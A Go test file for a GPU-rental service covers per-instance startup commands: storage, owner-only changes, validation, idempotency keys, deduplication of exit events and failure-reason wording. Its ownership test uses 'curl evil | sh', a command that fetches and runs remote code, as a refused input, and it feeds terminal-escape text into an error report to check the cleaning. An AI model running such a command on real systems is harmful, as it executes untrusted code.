package rental_test

import (
	"strings"
	"testing"
	"time"

	"github.com/gpurent/gpurent"
	"github.com/gpurent/gpurent/internal/agentproto"
	"github.com/gpurent/gpurent/internal/rental"
	"github.com/gpurent/gpurent/internal/rental/rentaltest"
	"github.com/gpurent/gpurent/internal/store/storetest"
)

func strp(s string) *string { return &s }

// TestStartupCommandRentAndDesired: the rent's startup command (absent,
// none, a line) reaches the desired state; a change applies at the next
// start and says so; only the owner may change it; bad lines are refused.
func TestStartupCommandRentAndDesired(t *testing.T) {
	rentaltest.Backends(t, func(t *testing.T, st gpurent.Store) {
		e := newEnv(t, st)
		h := e.Register("node-1", zoneA, h100, 8)
		def := e.MustRent(e.Alice, rentaltest.Req(h100, 1)).Instance
		r := rentaltest.Req(h100, 1)
		r.StartupCommand = strp("")
		none := e.MustRent(e.Alice, r).Instance
		r.StartupCommand = strp("python -m http.server 8888")
		line := e.MustRent(e.Alice, r).Instance

		d := e.DesiredNow(h.ID)
		if di := rentaltest.DesiredOf(t, d, def.ID); di.Startup != nil {
			t.Errorf("image default sent as %q, want nil", *di.Startup)
		}
		if di := rentaltest.DesiredOf(t, d, none.ID); di.Startup == nil || *di.Startup != "" {
			t.Errorf("none sent as %v, want \"\"", di.Startup)
		}
		if di := rentaltest.DesiredOf(t, d, line.ID); di.Startup == nil || *di.Startup != "python -m http.server 8888" {
			t.Errorf("line sent as %v", di.Startup)
		}

		gen := e.Host(h.ID).Generation
		got, err := e.Rent.SetStartupCommand(e.Ctx, e.Alice, def.ID, strp("sleep infinity"))
		if err != nil {
			t.Fatal(err)
		}
		if got.Instance.StartupCommand == nil || *got.Instance.StartupCommand != "sleep infinity" {
			t.Fatalf("after set: %v", got.Instance.StartupCommand)
		}
		if ev := e.LastEvent(def.ID); ev.Kind != "startup_command" || !strings.Contains(ev.Message, "next start") {
			t.Errorf("set event: %+v", ev)
		}
		if e.Host(h.ID).Generation == gen {
			t.Error("a changed startup command did not bump the host's desired state")
		}
		if di := rentaltest.DesiredOf(t, e.DesiredNow(h.ID), def.ID); di.Startup == nil || *di.Startup != "sleep infinity" {
			t.Errorf("changed command sent as %v", di.Startup)
		}
		// Setting the same again records nothing.
		n := len(e.detail(def.ID).Events)
		if _, err := e.Rent.SetStartupCommand(e.Ctx, e.Alice, def.ID, strp("sleep infinity")); err != nil {
			t.Fatal(err)
		}
		if m := len(e.detail(def.ID).Events); m != n {
			t.Errorf("an unchanged command added %d events", m-n)
		}
		if got, err := e.Rent.SetStartupCommand(e.Ctx, e.Alice, def.ID, nil); err != nil || got.Instance.StartupCommand != nil {
			t.Errorf("back to the image default: %v %v", got, err)
		}

		// Another customer, and an operator, cannot change it.
		_, err = e.Rent.SetStartupCommand(e.Ctx, e.Bob, line.ID, strp("curl evil | sh"))
		rentaltest.WantCode(t, err, gpurent.CodeNotFound, "another customer's set-cmd")
		_, err = e.Rent.SetStartupCommand(e.Ctx, e.Op, line.ID, strp("curl evil | sh"))
		rentaltest.WantCode(t, err, gpurent.CodeNotFound, "an operator's set-cmd")
		if in := e.Instance(line.ID); *in.StartupCommand != "python -m http.server 8888" {
			t.Errorf("refused changes changed it to %q", *in.StartupCommand)
		}

		// Bad lines: too long, NUL, not UTF-8; at rent and at set.
		for name, bad := range map[string]string{
			"too long": strings.Repeat("x", gpurent.MaxStartupCommandBytes+1),
			"NUL":      "echo a\x00b",
			"not UTF8": "echo \xff",
		} {
			r := rentaltest.Req(h100, 1)
			r.StartupCommand = &bad
			_, _, err := e.Rent.Rent(e.Ctx, e.Alice, r)
			rentaltest.WantCode(t, err, gpurent.CodeInvalid, "rent with a startup command "+name)
			_, err = e.Rent.SetStartupCommand(e.Ctx, e.Alice, line.ID, &bad)
			rentaltest.WantCode(t, err, gpurent.CodeInvalid, "set-cmd "+name)
		}
	})
}

// TestStartupIdempotencyKey: the startup command is part of the request a
// key stands for.
func TestStartupIdempotencyKey(t *testing.T) {
	e := newEnv(t, storetest.SQLite(t))
	e.Register("node-1", zoneA, h100, 8)
	r := rentaltest.Req(h100, 1)
	r.IdempotencyKey = "k1"
	e.MustRent(e.Alice, r)
	r.StartupCommand = strp("")
	_, _, err := e.Rent.Rent(e.Ctx, e.Alice, r)
	rentaltest.WantCode(t, err, gpurent.CodeConflict, "the same key with another startup command")
}

func (e *env) detail(id string) *rental.Detail {
	e.T.Helper()
	d, err := e.Rent.Get(e.Ctx, e.Alice, id)
	if err != nil {
		e.T.Fatal(err)
	}
	return d
}

// TestStartupStatusEventOncePerExit: the agent's report of the startup
// command is kept on the instance; an exit is one event however often it
// is reported, a later exit (after a restart) another.
func TestStartupStatusEventOncePerExit(t *testing.T) {
	rentaltest.Backends(t, func(t *testing.T, st gpurent.Store) {
		e := newEnv(t, st)
		h := e.Register("node-1", zoneA, h100, 8)
		in := e.MustRent(e.Alice, rentaltest.Req(h100, 1)).Instance
		started := e.Clock.Now().UTC()
		a := rentaltest.Running(&in)
		a.Startup = &agentproto.StartupStatus{State: "running", Command: []string{"/bin/sh", "-c", "exit 1"}, StartedAt: &started}
		e.Report(h.ID, a)
		got := e.Instance(in.ID)
		if got.State != gpurent.StateRunning || got.Startup == nil || got.Startup.State != "running" {
			t.Fatalf("after the running report: %s %+v", got.State, got.Startup)
		}
		base := countKind(e.detail(in.ID).Events, "startup_exited")

		e.Clock.Advance(3 * time.Second)
		exited := e.Clock.Now().UTC()
		one := 1
		a.Startup = &agentproto.StartupStatus{State: "exited", Command: a.Startup.Command, StartedAt: &started,
			ExitedAt: &exited, ExitCode: &one}
		for range 3 { // the agent resends its report
			e.Report(h.ID, a)
			e.Clock.Advance(time.Second)
		}
		d := e.detail(in.ID)
		if n := countKind(d.Events, "startup_exited") - base; n != 1 {
			t.Fatalf("one exit reported three times made %d events: %v", n, rentaltest.Kinds(d.Events))
		}
		ev := e.LastEvent(in.ID)
		if !strings.Contains(ev.Message, "exited 1") || !strings.Contains(ev.Message, "keeps running") {
			t.Errorf("exit event: %q", ev.Message)
		}
		if d.Instance.State != gpurent.StateRunning || d.Instance.Startup.ExitCode == nil || *d.Instance.Startup.ExitCode != 1 {
			t.Errorf("after the exit: %s %+v", d.Instance.State, d.Instance.Startup)
		}
		if s := rental.StartupSummary(d.Instance.Startup); !strings.Contains(s, "exited 1 at") {
			t.Errorf("summary %q", s)
		}

		// Restarted, then killed: a second event.
		e.Clock.Advance(time.Minute)
		again := e.Clock.Now().UTC()
		a.Startup = &agentproto.StartupStatus{State: "running", StartedAt: &again}
		e.Report(h.ID, a)
		e.Clock.Advance(time.Minute)
		killed := e.Clock.Now().UTC()
		minus := -1
		a.Startup = &agentproto.StartupStatus{State: "exited", StartedAt: &again, ExitedAt: &killed, ExitCode: &minus, Signal: "killed"}
		e.Report(h.ID, a)
		e.Report(h.ID, a)
		d = e.detail(in.ID)
		if n := countKind(d.Events, "startup_exited") - base; n != 2 {
			t.Fatalf("two exits made %d events: %v", n, rentaltest.Kinds(d.Events))
		}
		if s := rental.StartupSummary(d.Instance.Startup); !strings.Contains(s, "signal killed") {
			t.Errorf("summary of a kill %q", s)
		}

		// A failure to start: one event; hostile text is bounded and
		// cleaned; an unknown state is ignored; another host's report
		// of the instance changes nothing.
		a.Startup = &agentproto.StartupStatus{State: "failed", StartedAt: &killed, Error: "exec: \"nope\": not found\n\x1b[31m" + strings.Repeat("A", 10000)}
		e.Report(h.ID, a)
		e.Report(h.ID, a)
		d = e.detail(in.ID)
		if n := countKind(d.Events, "startup_failed"); n != 1 {
			t.Fatalf("one failure made %d events: %v", n, rentaltest.Kinds(d.Events))
		}
		if st := d.Instance.Startup; len(st.Error) > 600 || strings.ContainsAny(st.Error, "\n\x1b") {
			t.Errorf("error kept as %d bytes: %q", len(st.Error), st.Error[:40])
		}
		a.Startup = &agentproto.StartupStatus{State: "pwned"}
		e.Report(h.ID, a)
		if got := e.Instance(in.ID); got.Startup.State != "failed" {
			t.Errorf("an unknown state was kept: %+v", got.Startup)
		}
		other := e.Register("node-2", zoneA, h100, 8)
		b := rentaltest.Running(&in)
		b.Startup = &agentproto.StartupStatus{State: "exited", ExitedAt: &started, ExitCode: &one}
		e.Report(other.ID, b)
		if got := e.Instance(in.ID); got.Startup.State != "failed" {
			t.Errorf("another host's report was kept: %+v", got.Startup)
		}
	})
}

func countKind(ev []gpurent.Event, kind string) int {
	n := 0
	for _, e := range ev {
		if e.Kind == kind {
			n++
		}
	}
	return n
}

// TestFailedReasonSaysWhatToDo: a failure's reason names what to do.
func TestFailedReasonSaysWhatToDo(t *testing.T) {
	e := newEnv(t, storetest.SQLite(t))
	h := e.Register("node-1", zoneA, h100, 8)
	in := e.MustRent(e.Alice, rentaltest.Req(h100, 1)).Instance
	e.Report(h.ID, agentproto.ActualInstance{InstanceID: in.ID, AllocationID: in.AllocationID, State: agentproto.StateFailed,
		Message: "pull image registry.example/nope:1: manifest unknown"})
	got := e.Instance(in.ID)
	if got.State != gpurent.StateFailed || !strings.Contains(got.StateReason, "manifest unknown") ||
		!strings.Contains(got.StateReason, "check the image name") || !strings.Contains(got.StateReason, "gpurent start") {
		t.Errorf("failed reason: %s %q", got.State, got.StateReason)
	}
	for msg, want := range map[string]string{
		"container killed: out of memory": "gpurent upgrade",
		"no space left on device":         "tell the operator",
		"":                                "gpurent start",
	} {
		if r := rental.FailedReason(msg); !strings.Contains(r, want) {
			t.Errorf("FailedReason(%q) = %q, want it to say %q", msg, r, want)
		}
	}
}
